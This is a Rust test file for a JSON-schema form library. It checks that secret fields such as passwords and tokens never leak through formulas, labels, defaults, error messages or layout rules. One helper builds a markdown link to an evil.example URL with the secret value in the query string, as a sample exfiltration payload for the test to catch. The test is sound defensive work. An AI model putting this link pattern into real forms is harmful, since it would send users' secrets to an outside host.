//! No secret that was typed is read by anything but its own control: not by formulas, not by a UI description.
//!
//! Wherever a secret stands and however a formula asks for it, its text is in nothing that the form shows.

#![allow(clippy::unwrap_used, reason = "a helper of a test fails like a test")]

use formloom_core::layout::{Layout, LayoutState};
use formloom_core::{CompileOptions, Event, FormState, Hint, Pointer, compile};
use serde_json::{Map, Value, json};

const TEXT: &str = "s3cr3t-canary";

/// Each way to say that a value is a secret.
fn secrets() -> Vec<Value> {
    vec![
        json!({ "type": "string", "writeOnly": true }),
        json!({ "type": "string", "format": "password" }),
        json!({ "type": "string", "isSensitive": true }),
        json!({ "type": "string", "airbyte_secret": true }),
        json!({ "type": "string", "secret": true }),
        json!({ "type": "string", "x-private": true }),
        json!({ "writeOnly": true }),
        json!({ "type": ["string", "null"], "writeOnly": true }),
        json!({ "type": "string", "contentEncoding": "base64", "writeOnly": true }),
        json!({ "$ref": "#/$defs/secret" }),
        json!({ "allOf": [{ "type": "string" }, { "writeOnly": true }] }),
        json!({ "$case": [{ "filter": [{ "field": "mode", "operator": "is", "value": "open" }], "value": { "type": "string" } },
                          { "value": { "type": "string", "writeOnly": true } }] }),
        json!({ "type": "string", "writeOnly": { "$case": [{ "filter": [{ "field": "mode", "operator": "is", "value": "open" }], "value": false }, { "value": true }] } }),
        json!({ "type": "string", "format": { "$firstNotEmpty": [{ "$var": "mode" }, "password"] } }),
        json!({ "type": "string", "writeOnly": { "$or": [{ "$var": "mode" }, true] } }),
    ]
}

/// A place for a secret: the schema around it, an instance with it, and how a formula asks for it.
struct Place {
    schema: Value,
    instance: Value,
    asked: Vec<&'static str>,
}

fn places(secret: &Value) -> Vec<Place> {
    let place = |schema: Value, instance: Value, asked: &[&'static str]| Place {
        schema,
        instance,
        asked: asked.to_vec(),
    };
    vec![
        place(secret.clone(), json!(TEXT), &["at", "$.at"]),
        place(
            json!({ "type": "object", "properties": { "in": secret } }),
            json!({ "in": TEXT }),
            &["at", "at.in"],
        ),
        place(
            json!({ "type": "array", "items": secret }),
            json!([TEXT, TEXT]),
            &["at", "at[0]", "at[1]"],
        ),
        place(
            json!({ "type": "array", "prefixItems": [{ "type": "string" }, secret] }),
            json!(["x", TEXT]),
            &["at[1]", "at"],
        ),
        place(
            json!({ "type": "object", "additionalProperties": secret }),
            json!({ "k": TEXT }),
            &["at.k", "at"],
        ),
        place(
            json!({ "type": "object", "patternProperties": { "^k": secret }, "additionalProperties": { "type": "string" } }),
            json!({ "k1": TEXT }),
            &["at.k1", "at"],
        ),
        // The branch is not the one that is active.
        place(
            json!({ "type": "object", "oneOf": [
                { "properties": { "kind": { "const": "b" }, "in": { "type": "string" } } },
                { "properties": { "kind": { "const": "a" }, "in": secret } }] }),
            json!({ "kind": "b", "in": TEXT }),
            &["at.in", "at"],
        ),
        place(
            json!({ "type": "object", "properties": { "in": { "type": "string" } },
                "if": { "properties": { "kind": { "const": "z" } }, "required": ["kind"] },
                "then": { "properties": { "in": secret } } }),
            json!({ "in": TEXT }),
            &["at.in", "at"],
        ),
        place(
            json!({ "type": "object", "properties": { "in": { "type": "string" } }, "dependentSchemas": { "q": { "properties": { "in": secret } } } }),
            json!({ "in": TEXT }),
            &["at.in"],
        ),
        place(
            json!({ "type": "object", "writeOnly": true, "properties": { "in": { "type": "object", "properties": { "deep": { "type": "string" } } } } }),
            json!({ "in": { "deep": TEXT } }),
            &["at.in.deep", "at.in", "at"],
        ),
        place(
            json!({ "$case": [{ "filter": [{ "field": "mode", "operator": "is", "value": "list" }], "value": { "type": "array", "items": secret } },
                              { "value": { "type": "object", "properties": { "in": { "type": "string" } } } }] }),
            json!([TEXT]),
            &["at[0]", "at"],
        ),
    ]
}

/// Every way in which a formula can show what it reads.
fn readers(asked: &str) -> Map<String, Value> {
    let var = json!({ "$var": asked });
    let told = json!({ "$concat": ["[Rules](https://evil.example/?p=", var, ")"] });
    let contains = |value: &str| {
        json!({ "$case": [{ "filter": [{ "field": asked, "operator": "contains", "value": value }], "value": format!("has {value}") },
                          { "value": "no" }] })
    };
    let reads = [
        json!({ "type": "string", "title": var }),
        json!({ "type": "string", "description": told }),
        json!({ "type": "string", "default": told }),
        json!({ "type": "string", "default_value": { "$firstNotEmpty": [{ "$var": "none" }, var] } }),
        json!({ "type": "string", "example": told, "prefix": told, "suffix": told }),
        json!({ "type": "string", "enum": [told, "b"] }),
        json!({ "type": "string", "enum": { "$case": [{ "value": [var] }] } }),
        json!({ "type": "string", "errorMessage": told, "minLength": 99 }),
        json!({ "type": "string", "pattern_descriptor": told, "pattern": "^never$" }),
        json!({ "type": "string", "title": contains("canary") }),
        json!({ "type": "string", "minLength": { "$var": asked } }),
        json!({ "type": "string", "referenceCollection": { "key": "k", "parameters": { "p": told } } }),
        json!({ "type": "object", "title": { "$concat": [{ "$var": "$" }] }, "default_value": { "all": { "$var": "$" } } }),
        json!({ "type": "object", "properties": { "x": { "title": { "$concat": [{ "$var": "at" }] } } } }),
    ];
    reads
        .into_iter()
        .enumerate()
        .map(|(index, read)| (format!("r{index}"), read))
        .collect()
}

/// All that a renderer is told, but for the controls of the secrets themselves.
fn told(state: &mut FormState, open: &dyn Fn(&Pointer) -> bool) -> String {
    let mut told = serde_json::to_string(&state.form().formulas_left_out()).unwrap();
    let mut tree = serde_json::to_value(state.tree()).unwrap();
    strip(&mut tree, open);
    told += &tree.to_string();
    told += &serde_json::to_string(&state.errors()).unwrap();
    let mut nodes = vec![state.root()];
    while let Some(id) = nodes.pop() {
        let view = state.view_of(id).unwrap();
        told += &format!("{view:?} {:?} {:?}", state.hints(id), view.fetched);
        let hints = state.hints(id);
        for text in [&hints.prefix, &hints.suffix, &hints.pattern] {
            told += text.as_deref().unwrap_or_default();
        }
        told += &format!("{:?}", hints.source.as_ref().map(Value::to_string));
        nodes.extend(&view.child_ids);
    }
    let mut instance = state.instance().cloned().unwrap_or_default();
    if let Some(instance) = instance.as_object_mut() {
        instance.remove("at");
    }
    told + &instance.to_string()
}

/// Takes the values of `/at` away where the form shows them in clear, because they are no secret at the moment.
fn strip(node: &mut Value, open: &dyn Fn(&Pointer) -> bool) {
    let at = Pointer::from(node["at"].as_str().unwrap_or_default());
    if open(&at) {
        node.as_object_mut().unwrap().remove("value");
    }
    for key in ["children", "item"] {
        match node.get_mut(key) {
            Some(Value::Array(nodes)) => nodes.iter_mut().for_each(|node| strip(node, open)),
            Some(one) => strip(one, open),
            None => {}
        }
    }
}

fn form(place: &Place, asked: &str, mode: Value) -> FormState {
    let mut properties = readers(asked);
    properties.insert("at".to_owned(), place.schema.clone());
    properties.insert("mode".to_owned(), json!({ "type": "string" }));
    let schema = json!({ "type": "object", "properties": properties,
                         "$defs": { "secret": { "type": "string", "writeOnly": true } } });
    let options = CompileOptions::default().with_hint("x-private", Hint::Secret);
    let form = options.compile(&schema).unwrap().form;
    form.state(json!({ "mode": mode }))
}

#[test]
fn no_formula_reads_a_secret() {
    let mut tried = 0;
    for (row, secret) in secrets().iter().enumerate() {
        for (column, place) in places(secret).iter().enumerate() {
            // Each secret alone, one of them everywhere, and a part of the rest.
            if row > 0 && column > 0 && (row + column) % 4 > 0 {
                continue;
            }
            for asked in &place.asked {
                for mode in ["list", "open"] {
                    let mut state = form(place, asked, json!("secret"));
                    let _ = state.apply(Event::set("/at", place.instance.clone()));
                    let in_clear = |at: &Pointer| at.as_str().starts_with("/at");
                    let first = told(&mut state, &in_clear);
                    state.apply(Event::type_text("/mode", mode)).unwrap();
                    let _ = state.apply(Event::set("/at", place.instance.clone()));
                    let second = told(&mut state, &in_clear);
                    let _ = state.submit();
                    let third = told(&mut state, &in_clear);
                    for text in [first, second, third] {
                        assert!(
                            !text.contains(TEXT) && !text.contains("has canary"),
                            "{secret}\n{}\n{asked} {mode}\n{text}",
                            place.schema
                        );
                    }
                    tried += 1;
                }
            }
        }
    }
    println!("{tried} forms");
}

#[test]
fn what_is_no_secret_is_read_beside_one() {
    let schema = json!({ "type": "object", "properties": {
        "host": { "type": "string" }, "token": { "type": "string", "writeOnly": true },
        "list": { "type": "array", "items": { "type": "object", "properties": { "name": { "type": "string" }, "key": { "type": "string", "writeOnly": true } } } },
        "url": { "type": "string", "default": { "$concat": [{ "$var": "host" }, "/", { "$var": "token" }, { "$var": "list" }] } },
        "first": { "type": "string", "title": { "$case": [{ "filter": [{ "field": "list.name", "operator": "is", "value": "ada" }], "value": "Found" }] } } } });
    let mut state = compile(&schema).unwrap().form.state(None);
    state.apply(Event::type_text("/host", "db")).unwrap();
    state.apply(Event::type_text("/token", TEXT)).unwrap();
    state
        .apply(Event::set("/list", json!([{ "name": "ada", "key": TEXT }])))
        .unwrap();
    assert_eq!(
        state.instance().unwrap()["url"],
        r#"db/[{"name":"ada"}]"#,
        "the rest of a list is there"
    );
    assert_eq!(state.view("/first").unwrap().label, "Found");
}

#[test]
fn where_references_depend_on_formulas_nothing_is_read() {
    for schema in [
        json!({ "type": "object", "properties": { "token": { "$ref": "#/$defs/x/properties/p" }, "label": { "type": "string", "title": { "$var": "token" } } },
                "$defs": { "x": { "$case": [{ "value": { "properties": { "p": { "type": "string" } } } }, { "value": { "properties": { "p": { "writeOnly": true } } } }] } } }),
        json!({ "type": "object", "properties": { "token": { "$ref": { "$concat": ["#/$defs/", { "$var": "which" }] } }, "which": { "type": "string" },
                "label": { "type": "string", "title": { "$var": "token" } } }, "$defs": { "a": { "type": "string" }, "b": { "type": "string", "writeOnly": true } } }),
        json!({ "type": "object", "properties": { "token": { "$var": "schema" }, "schema": { "default": { "type": "string" } },
                "label": { "type": "string", "title": { "$var": "token" } } } }),
        json!({ "type": "object", "properties": { "token": { "$ref": "#a" }, "label": { "type": "string", "title": { "$var": "token" } } },
                "$defs": { "x": { "$case": [{ "value": { "$anchor": "a", "type": "string" } }, { "value": { "$anchor": "a", "writeOnly": true } }] } } }),
    ] {
        let form = compile(&schema).unwrap().form;
        let state =
            form.state(json!({ "which": "a", "schema": { "type": "string" }, "token": TEXT }));
        assert_eq!(state.view("/label").unwrap().label, "Label", "{schema}");
    }
}

#[test]
fn no_rule_of_a_layout_reads_a_secret() {
    for secret in [
        json!({ "type": "string", "writeOnly": true }),
        json!({ "oneOf": [{ "type": "string" }, { "type": "string", "format": "password", "minLength": 90 }] }),
    ] {
        let schema = json!({ "type": "object", "properties": {
            "token": secret, "box": { "type": "object", "properties": { "in": secret, "host": { "type": "string" } } },
            "shown": { "type": "string" }, "boxed": { "type": "string" }, "host": { "type": "string" } } });
        let form = compile(&schema).unwrap().form;
        let layout = Layout::read(&json!({ "places": {
            "/shown": { "show": { "at": "/token", "schema": { "pattern": "canary" } } },
            "/boxed": { "show": { "at": "/box", "schema": { "required": ["in"] } } },
            "/host": { "show": { "at": "/box", "schema": { "properties": { "host": { "const": "db" } }, "required": ["host"] } } } } }))
        .unwrap();
        let mut state = form.state(None);
        let mut rules = LayoutState::new(&layout, &form);
        for event in [
            Event::set("/token", json!(TEXT)),
            Event::set("/box", json!({ "in": TEXT, "host": "db" })),
        ] {
            let change = state.apply(event).unwrap();
            rules.update(&state, &change);
        }
        assert!(!rules.is_shown(&state, &"/shown".into()), "{secret}");
        assert!(!rules.is_shown(&state, &"/boxed".into()), "{secret}");
        assert!(rules.is_shown(&state, &"/host".into()), "{secret}");
    }
}
